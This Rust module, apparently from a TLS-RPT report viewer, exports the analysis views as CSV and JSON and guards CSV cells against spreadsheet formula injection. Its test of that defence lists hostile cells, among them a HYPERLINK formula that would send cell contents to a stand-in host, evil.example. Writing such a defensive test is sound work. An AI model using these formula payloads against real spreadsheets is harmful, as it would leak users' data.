//! The exports: each view as CSV, and the aggregates with the findings as JSON. Built from the
//! same [`Analysis`] the page draws, so that a download always agrees with the screen.

use super::{Analysis, DayRow, Filter, ResultRow, SourceGroup, TypeCount};
use crate::analysis::diagnosis::Finding;
use crate::analysis::sorting::sort;
use crate::ingest::ReportSet;
use crate::report::ResultType;
use serde_json::json;
use std::collections::HashMap;

/// The result types failing in any of these rows, in the registry's order (types outside it
/// after, as given): a CSV gives each its own column of failed sessions, so that a
/// spreadsheet can sum and sort them.
fn type_columns<'a>(rows: impl Iterator<Item = &'a [TypeCount]>) -> Vec<ResultType> {
    let mut types: Vec<ResultType> = rows
        .flat_map(|counts| counts.iter().map(|c| c.result_type.clone()))
        .collect();
    sort(&mut types);
    types.dedup();
    types
}

/// The headers of those columns: "failed-certificate-expired".
fn type_headers(types: &[ResultType]) -> Vec<String> {
    types
        .iter()
        .map(|t| format!("failed-{}", t.as_str()))
        .collect()
}

/// A row's failed sessions in each of those columns (0 where it has none).
fn type_cells(types: &[ResultType], counts: &[TypeCount]) -> Vec<String> {
    types
        .iter()
        .map(|wanted| {
            counts
                .iter()
                .filter(|c| &c.result_type == wanted)
                .fold(0u64, |sum, c| crate::text::add_counts(sum, c.sessions))
                .to_string()
        })
        .collect()
}

/// A header of fixed columns, then the type columns, then more fixed columns.
fn header_with_types(before: &[&str], types: &[ResultType], after: &[&str]) -> Vec<String> {
    before
        .iter()
        .map(|h| h.to_string())
        .chain(type_headers(types))
        .chain(after.iter().map(|h| h.to_string()))
        .collect()
}

/// A cell as a spreadsheet must read it: text that begins with `=`, `+`, `-`, `@`, a tab or a
/// carriage return would be taken for a formula (reports can be forged, and an organisation,
/// an MX host or a file name can be `=HYPERLINK(…)`), so it gets a leading `'`, as OWASP's
/// CSV injection guidance says. So does text that begins with anything a spreadsheet may
/// skip before such a character: any white space (a space, a line feed), a control, an
/// invisible format character (a byte-order mark, a zero-width space, a soft hyphen) or the
/// full-width forms `＝＋－＠` that some spreadsheets read as their ASCII twins. Every cell is
/// also quoted (see [`write`]).
pub fn spreadsheet_safe(cell: &str) -> std::borrow::Cow<'_, str> {
    match cell.chars().next() {
        Some(first) if may_start_a_formula(first) => format!("'{cell}").into(),
        _ => cell.into(),
    }
}

fn may_start_a_formula(c: char) -> bool {
    c.is_whitespace()
        || c.is_control()
        || matches!(
            c,
            '=' | '+'
                | '-'
                | '@'
                | '＝'
                | '＋'
                | '－'
                | '＠'
                | '\u{00AD}'
                | '\u{180E}'
                | '\u{200B}'..='\u{200F}'
                | '\u{202A}'..='\u{202E}'
                | '\u{2060}'..='\u{2064}'
                | '\u{2066}'..='\u{2069}'
                | '\u{FEFF}'
        )
}

/// Every field quoted, every cell safe for a spreadsheet.
pub fn write<H: AsRef<str>>(header: &[H], rows: impl Iterator<Item = Vec<String>>) -> String {
    let mut writer = CsvWriter::default();
    writer.record(header.iter().map(AsRef::as_ref));
    for row in rows {
        writer.record(row.iter().map(|cell| spreadsheet_safe(cell)));
    }
    writer.text
}

/// CSV as the `csv` crate writes it with `QuoteStyle::Always` and its other defaults (the
/// tests hold the two to the same bytes), in a few lines: the crate's writer, with its number
/// parsing for other quote styles, would be most of the CSV code in the worker's wasm.
#[derive(Default)]
struct CsvWriter {
    text: String,
    /// The fields of the first record: a record with another number gets no line end, as the
    /// crate's writer refuses it after writing its fields (and its next field goes on the
    /// same line).
    first_count: Option<usize>,
    /// Fields written since the last line end.
    fields: usize,
    /// A field is open: its closing quote comes with the next comma or line end.
    open_quote: bool,
}

impl CsvWriter {
    /// Each field in double quotes, a quote inside doubled; commas between; "\n" after (`""`
    /// for a record of no fields).
    fn record<T: AsRef<str>>(&mut self, fields: impl Iterator<Item = T>) {
        for field in fields {
            if self.fields > 0 {
                self.close_quote();
                self.text.push(',');
            }
            self.text.push('"');
            self.text.push_str(&field.as_ref().replace('"', "\"\""));
            self.open_quote = true;
            self.fields += 1;
        }
        match self.first_count {
            None => self.first_count = Some(self.fields),
            Some(count) if count != self.fields => return,
            Some(_) => {}
        }
        if self.fields == 0 {
            self.text.push_str("\"\"");
        }
        self.close_quote();
        self.text.push('\n');
        self.fields = 0;
    }

    fn close_quote(&mut self) {
        if std::mem::take(&mut self.open_quote) {
            self.text.push('"');
        }
    }
}

pub fn per_result_csv(rows: &[ResultRow]) -> String {
    let types = type_columns(rows.iter().map(|r| &r.failures_by_type[..]));
    write(
        &header_with_types(
            &[
                "policy-domain",
                "policy-type",
                "successful-sessions",
                "failed-sessions",
            ],
            &types,
            &["failed-without-details", "reports"],
        ),
        rows.iter().map(|r| {
            let mut row = vec![
                r.policy_domain.clone(),
                r.policy_type.clone(),
                r.successful_sessions.to_string(),
                r.failed_sessions.to_string(),
            ];
            row.extend(type_cells(&types, &r.failures_by_type));
            row.extend([
                r.unitemised_failures.to_string(),
                r.reports.len().to_string(),
            ]);
            row
        }),
    )
}

/// An item's rows, never a list in a cell: its `key` cells on every row, its `figures` on
/// its first row only (so that a column of figures sums to the total, each item counted once),
/// and a row per name it lists, as `name-kind` and `name`. An item that lists no name is one
/// row, with both empty.
pub fn item_rows(
    key: Vec<String>,
    figures: Vec<String>,
    names: Vec<(&str, String)>,
) -> Vec<Vec<String>> {
    if names.is_empty() {
        return vec![[key, figures, vec![String::new(), String::new()]].concat()];
    }
    let blank = vec![String::new(); figures.len()];
    let mut figures = Some(figures);
    names
        .into_iter()
        .map(|(kind, name)| {
            let figures = figures.take().unwrap_or_else(|| blank.clone());
            [key.clone(), figures, vec![kind.to_string(), name]].concat()
        })
        .collect()
}

/// The names of an item's lists, each with its list's kind, as [`item_rows`] takes them.
pub fn named<'a>(lists: &[(&'a str, &'a [String])]) -> Vec<(&'a str, String)> {
    lists
        .iter()
        .flat_map(|&(kind, list)| list.iter().map(move |name| (kind, name.clone())))
        .collect()
}

/// A row per reporting organisation (`row` "organization": its sessions, reports and days),
/// then its sending IPs (`row` "sending-ip": their failures by type, reports and days), each
/// with a row per receiving MX host and policy domain it names (see [`item_rows`]). Filter on
/// `row` before summing: an organisation's failed sessions are its IPs' together.
pub fn per_source_csv(groups: &[SourceGroup]) -> String {
    let types = type_columns(
        groups
            .iter()
            .flat_map(|g| g.sources.iter().map(|s| &s.failures_by_type[..])),
    );
    let day = |day: Option<crate::text::Day>| day.map(|day| day.to_string()).unwrap_or_default();
    write(
        &header_with_types(
            &[
                "organization",
                "row",
                "sending-ip",
                "successful-sessions",
                "failed-sessions",
            ],
            &types,
            &["reports", "first-day", "last-day", "name-kind", "name"],
        ),
        groups.iter().flat_map(|g| {
            let types = &types;
            let mut own = vec![
                g.successful_sessions.to_string(),
                g.failed_sessions.to_string(),
            ];
            own.extend(types.iter().map(|_| String::new()));
            own.extend([
                g.report_count.to_string(),
                day(g.first_day),
                day(g.last_day),
            ]);
            let organization = item_rows(
                vec![g.organization.clone(), "organization".into(), String::new()],
                own,
                Vec::new(),
            );
            let ips = g.sources.iter().flat_map(move |s| {
                let mut figures = vec![String::new(), s.failed_sessions.to_string()];
                figures.extend(type_cells(types, &s.failures_by_type));
                figures.extend([
                    s.report_count.to_string(),
                    day(s.first_day),
                    day(s.last_day),
                ]);
                let names = named(&[
                    ("receiving-mx-host", &s.receiving_mx_hosts),
                    ("policy-domain", &s.policy_domains),
                ]);
                item_rows(
                    vec![
                        g.organization.clone(),
                        "sending-ip".into(),
                        s.sending_ip.clone().unwrap_or_default(),
                    ],
                    figures,
                    names,
                )
            });
            organization.into_iter().chain(ips)
        }),
    )
}

/// A row per MX host (`row` "mx-host": its failures by result type and sending IPs counted,
/// a row per reporter and TLSA record), then a row per domain it serves (`row` "domain": its
/// failed sessions, whether its MTA-STS policy names the host, a row per MX pattern that
/// does); see [`item_rows`]. Filter on `row` before summing. The sending IPs are counted:
/// each is a row of the By source CSV, which names the MX hosts it reached.
pub fn per_mx_csv(rows: &[super::MxRow]) -> String {
    let types = type_columns(rows.iter().map(|r| &r.failures_by_type[..]));
    write(
        &header_with_types(
            &[
                "mx-host",
                "row",
                "policy-domain",
                "failed-sessions",
                "named-by-mta-sts-policy",
            ],
            &types,
            &["sending-ip-count", "reports", "name-kind", "name"],
        ),
        rows.iter().flat_map(|row| {
            let types = &types;
            let mut figures = vec![row.failed_sessions.to_string(), String::new()];
            figures.extend(type_cells(types, &row.failures_by_type));
            figures.extend([
                row.sending_ips.len().to_string(),
                row.report_count.to_string(),
            ]);
            let names = named(&[
                ("reporter", &row.reporters),
                ("tlsa-record", &row.tlsa_records),
            ]);
            let host = item_rows(
                vec![row.mx_host.clone(), "mx-host".into(), String::new()],
                figures,
                names,
            );
            let domains = row.domains.iter().flat_map(move |domain| {
                let mut figures = vec![
                    domain.failed_sessions.to_string(),
                    match domain.covered {
                        Some(true) => "yes".to_string(),
                        Some(false) => "no".to_string(),
                        None => "no policy seen".to_string(),
                    },
                ];
                figures.extend(types.iter().map(|_| String::new()));
                figures.extend([String::new(), String::new()]);
                let names = named(&[("mx-pattern", &domain.patterns)]);
                item_rows(
                    vec![row.mx_host.clone(), "domain".into(), domain.domain.clone()],
                    figures,
                    names,
                )
            });
            host.into_iter().chain(domains)
        }),
    )
}

pub fn per_day_csv(days: &[DayRow]) -> String {
    let types = type_columns(days.iter().map(|d| &d.failures_by_type[..]));
    write(
        &header_with_types(
            &["day", "successful-sessions", "failed-sessions"],
            &types,
            &["failed-without-details", "reports"],
        ),
        days.iter().map(|d| {
            let mut row = vec![
                d.day.to_string(),
                d.successful_sessions.to_string(),
                d.failed_sessions.to_string(),
            ];
            row.extend(type_cells(&types, &d.failures_by_type));
            row.extend([
                d.unitemised_failures.to_string(),
                d.reports.len().to_string(),
            ]);
            row
        }),
    )
}

/// A row per finding and each name it lists (an MX host, a sending IP, a reporter, a domain,
/// a part of a grouped finding, a step of its fix), never a list in one cell: `name-kind` says
/// which. Its id, severity, rule, title and domain are on each of its rows, its figures and
/// reference on its first (see [`item_rows`]), so that `sessions` sums over the rows.
pub fn findings_csv(findings: &[Finding]) -> String {
    write(
        &[
            "finding",
            "severity",
            "rule",
            "title",
            "policy-domain",
            "sessions",
            "domain-sessions",
            "first-seen",
            "last-seen",
            "reference",
            "name-kind",
            "name",
        ],
        findings.iter().flat_map(|f| {
            let key = vec![
                f.id(),
                f.severity.as_str().to_string(),
                f.rule.to_string(),
                f.title.clone(),
                f.policy_domain.clone(),
            ];
            let figures = vec![
                f.sessions.to_string(),
                f.domain_sessions.to_string(),
                f.first_seen.map(|day| day.to_string()).unwrap_or_default(),
                f.last_seen.map(|day| day.to_string()).unwrap_or_default(),
                f.reference.clone(),
            ];
            let parts: Vec<String> = f.parts.iter().map(|part| part.title.clone()).collect();
            let names = named(&[
                ("mx-host", &f.mx_hosts),
                ("sending-ip", &f.sending_ips),
                ("reporter", &f.reporters),
                ("domain", &f.domains),
                ("part", &parts),
                ("fix-step", &f.fix),
            ]);
            item_rows(key, figures, names)
        }),
    )
}

/// Every input and every piece inside it, one row each, with its path and outcome.
pub fn inputs_csv(set: &crate::ingest::ReportSet) -> String {
    fn walk(record: &crate::ingest::InputRecord, parent: &str, rows: &mut Vec<Vec<String>>) {
        let path = crate::ingest::child_path(parent, &record.name);
        let outcome = match record.outcome {
            crate::ingest::Outcome::Loaded { .. } => "loaded",
            crate::ingest::Outcome::Duplicate { .. } => "duplicate",
            crate::ingest::Outcome::Rejected { .. } => "rejected",
            crate::ingest::Outcome::Unpacked => "read",
        };
        rows.push(vec![
            path.clone(),
            format!("{:?}", record.role).to_lowercase(),
            record.size.to_string(),
            record.format.clone(),
            outcome.to_string(),
            record.detail(),
        ]);
        for child in &record.children {
            walk(child, &path, rows);
        }
    }
    let mut rows = Vec::new();
    for input in &set.inputs {
        walk(input, "", &mut rows);
    }
    write(
        &["input", "role", "size", "read-as", "outcome", "detail"],
        rows.into_iter(),
    )
}

/// The aggregates and the findings, with the filter they were computed under. A text the page
/// shows with visible direction controls ("[U+202E]moc.elgoog") is written as its report gave
/// it (see [`texts_as_given`]): the JSON is for programs, which no control can mislead.
pub fn analysis_json(analysis: &Analysis, filter: &Filter, set: &ReportSet) -> String {
    let json = serde_json::to_string_pretty(&json!({
        "generator": "TLS-RPT Viewer",
        "filter": as_value(filter),
        "overview": as_value(&analysis.overview),
        "per-result": as_value(&analysis.per_result),
        "per-source": as_value(&analysis.per_source),
        "per-mx": as_value(&analysis.per_mx),
        "per-day": as_value(&analysis.per_day),
        "domains": as_value(&analysis.diagnosis.domains),
        "findings": as_value(&analysis.diagnosis.findings),
    }))
    .unwrap_or_default();
    texts_as_given(json, &given_texts(set))
}

/// `item` as a JSON value (what `serde_json::to_value` gives: these types hold no floats),
/// through its compact JSON text: the worker already writes these types so for the page,
/// where `to_value` would compile a second serializer of every one of them into the worker.
fn as_value<T: serde::Serialize + ?Sized>(item: &T) -> serde_json::Value {
    serde_json::to_string(item)
        .ok()
        .and_then(|text| serde_json::from_str(&text).ok())
        .unwrap_or_default()
}

/// Each text of the set's reports that is shown with visible direction controls, keyed by how
/// it shows. Empty for any real report.
pub fn given_texts(set: &ReportSet) -> HashMap<&str, &str> {
    set.reports
        .iter()
        .flat_map(|loaded| &loaded.report.given_texts)
        .map(|text| (text.shown.as_str(), text.given.as_str()))
        .collect()
}

/// The JSON text with every string (key or value) that is wholly a text shown with visible
/// direction controls written back as given. Prose that quotes such a text (a finding's
/// explanation) keeps it visible. One pass, and none at all when no report had controls.
pub fn texts_as_given(json: String, given: &HashMap<&str, &str>) -> String {
    if given.is_empty() || (!json.contains("[U+") && !json.contains("[u+")) {
        return json;
    }
    let bytes = json.as_bytes();
    let mut out = String::with_capacity(json.len());
    let mut copied = 0;
    let mut index = 0;
    while index < bytes.len() {
        if bytes[index] != b'"' {
            index += 1;
            continue;
        }
        // A string literal: find its closing quote, stepping over escapes.
        let start = index;
        index += 1;
        while index < bytes.len() && bytes[index] != b'"' {
            index += if bytes[index] == b'\\' { 2 } else { 1 };
        }
        let end = (index + 1).min(bytes.len());
        index = end;
        let literal = &json[start..end];
        if !literal.contains("[U+") && !literal.contains("[u+") {
            continue;
        }
        let Ok(text) = serde_json::from_str::<String>(literal) else {
            continue;
        };
        if let Some(as_given) = given.get(text.as_str()) {
            out.push_str(&json[copied..start]);
            out.push_str(&serde_json::to_string(as_given).unwrap_or_default());
            copied = end;
        }
    }
    out.push_str(&json[copied..]);
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn texts_shown_with_controls_are_written_as_given() {
        let given = HashMap::from([("[U+202E]moc.elgoog", "\u{202E}moc.elgoog")]);
        let json = serde_json::to_string(&json!({
            "[U+202E]moc.elgoog": ["[U+202E]moc.elgoog", "say \"[U+202E]moc.elgoog\""],
            "literal": "[U+202E]moc.elgoog\\",
            "quote\"": "[U+2066]other",
        }))
        .unwrap();
        let written: serde_json::Value =
            serde_json::from_str(&texts_as_given(json.clone(), &given)).unwrap();
        assert_eq!(
            written,
            json!({
                "\u{202E}moc.elgoog": ["\u{202E}moc.elgoog", "say \"[U+202E]moc.elgoog\""],
                "literal": "[U+202E]moc.elgoog\\",
                "quote\"": "[U+2066]other",
            })
        );
        // No report had controls: the text is left as it is, even where it reads "[U+…]".
        assert_eq!(texts_as_given(json.clone(), &HashMap::new()), json);
    }

    /// What the `csv` crate writes for the same records.
    fn csv_crate(records: &[Vec<&str>]) -> String {
        let mut writer = csv::WriterBuilder::new()
            .quote_style(csv::QuoteStyle::Always)
            .from_writer(Vec::new());
        for record in records {
            let _ = writer.write_record(record);
        }
        String::from_utf8(writer.into_inner().unwrap()).unwrap()
    }

    #[test]
    fn writes_csv_as_the_csv_crate_does() {
        let cases: Vec<Vec<Vec<&str>>> = vec![
            vec![
                vec!["a", "b"],
                vec!["x, y", "say \"hi\""],
                vec!["", "\r\n\"\""],
            ],
            vec![
                vec!["only"],
                vec![""],
                vec!["é ü \u{202E}"],
                vec!["#1", "'q'"],
            ],
            // Records of another length than the first: fields written, no line end.
            vec![
                vec!["a", "b"],
                vec!["1"],
                vec!["2", "3"],
                vec!["4", "5", "6"],
                vec![],
            ],
            vec![vec![], vec!["a"], vec![]],
        ];
        for records in cases {
            let mut ours = CsvWriter::default();
            for record in &records {
                ours.record(record.iter());
            }
            assert_eq!(ours.text, csv_crate(&records), "{records:?}");
        }
    }

    #[test]
    fn quotes_what_needs_quoting() {
        let csv = write(
            &["a", "b"],
            [vec!["x, y".to_string(), "say \"hi\"".to_string()]].into_iter(),
        );
        assert_eq!(csv, "\"a\",\"b\"\n\"x, y\",\"say \"\"hi\"\"\"\n");
    }

    #[test]
    fn no_cell_reads_as_a_formula() {
        let hostile = [
            "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click me\").json",
            "+1+1",
            "-2+3",
            "@SUM(A1)",
            "\t=1",
            "\r=1",
            " =1+1",
            "\n=1+1",
            "＝1+1",
            "＋1",
            "－1",
            "＠SUM(A1)",
            "\u{FEFF}=1+1",
            "\u{200B}=1+1",
            "\u{00A0}=1+1",
            "\u{2060}=1+1",
        ];
        let csv = write(&["cell"], hostile.iter().map(|cell| vec![cell.to_string()]));
        let mut reader = csv::Reader::from_reader(csv.as_bytes());
        let cells: Vec<String> = reader
            .records()
            .map(|r| r.unwrap()[0].to_string())
            .collect();
        for (cell, given) in cells.iter().zip(hostile) {
            assert_eq!(cell, &format!("'{given}"));
        }
        assert_eq!(cells.len(), hostile.len());
        for line in csv.lines().skip(1).filter(|line| !line.is_empty()) {
            assert!(
                line.starts_with("\"'") || line == "=1\"" || line == "=1+1\"",
                "{line:?}"
            );
        }
        assert_eq!(spreadsheet_safe("mx.example.com"), "mx.example.com");
        assert_eq!(spreadsheet_safe("192.0.2.1"), "192.0.2.1");
        assert_eq!(spreadsheet_safe(""), "");
    }
}
